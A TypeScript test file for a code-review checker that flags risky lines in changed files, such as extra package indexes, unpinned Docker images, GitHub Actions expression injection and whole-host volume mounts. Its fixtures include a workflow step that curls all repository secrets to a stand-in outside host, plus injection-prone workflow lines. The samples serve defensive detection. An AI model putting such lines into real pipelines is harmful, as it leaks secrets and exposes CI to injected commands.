import { expect, it } from 'vitest';
import type { ChangedFile } from '../change/changed-file.ts';
import { lineNotes } from './line-notes.ts';

const told = (path: string, after: string): readonly string[] => {
  const file: ChangedFile = {
    path,
    oldPath: path,
    kind: 'modified',
    before: '',
    after,
    added: new Set(after.split('\n').map((_, index) => index + 1)),
    removed: new Set(),
    isBinary: false,
    oldMode: '100644',
    newMode: '100644',
  };
  return lineNotes(file).flatMap(({ line, text }) => (line === undefined ? [] : [text]));
};

it.each([
  ['requirements.txt', '--extra-index-url https://pypi.example.com/simple', 'where packages come from'],
  ['requirements/dev.in', '-i https://pypi.example.com/simple', 'where packages come from'],
  ['pyproject.toml', '[[tool.uv.index]]', 'where packages come from'],
  ['Dockerfile', 'ADD https://example.com/tool /usr/bin/tool', 'as it comes from the network'],
  ['Dockerfile', 'FROM --platform=linux/amd64 python:latest AS base', 'by a name that can be moved'],
  ['.github/workflows/ci.yml', '      - run: echo "${{ github.event.issue.title }}"', 'words of strangers'],
  ['.github/workflows/ci.yml', '          echo ${{ github.head_ref }}', 'words of strangers'],
  ['.github/workflows/ci.yml', '      - run: curl -d "${{ toJSON(secrets) }}" https://x.example', 'all secrets'],
  ['compose.yml', '    volumes: ["/:/host"]', 'all files of the host'],
  ['compose.yml', '      - /:/host:ro', 'all files of the host'],
])('%s tells %j', (path, line, text) => {
  expect(told(path, line)).toEqual([expect.stringContaining(text)]);
});

it.each([
  ['requirements.txt', '-r base.txt'],
  ['requirements.txt', 'index-url==1.0'],
  ['pyproject.toml', '[tool.uv]'],
  ['Dockerfile', 'ADD --checksum=sha256:24454f https://example.com/tool /usr/bin/tool'],
  ['Dockerfile', 'ADD . /srv'],
  ['Dockerfile', 'FROM base AS test'],
  ['Dockerfile', 'FROM scratch'],
  ['Dockerfile', 'FROM python:3.13@sha256:24454f AS base'],
  ['.github/workflows/ci.yml', '          TITLE: ${{ github.event.pull_request.title }}'],
  ['.github/workflows/ci.yml', '  group: ${{ github.head_ref }}'],
  ['compose.yml', '      - ./data:/data'],
  ['compose.yml', '      - http://a.example:/x'],
])('%s tells nothing of %j', (path, line) => {
  expect(told(path, line)).toEqual([]);
});
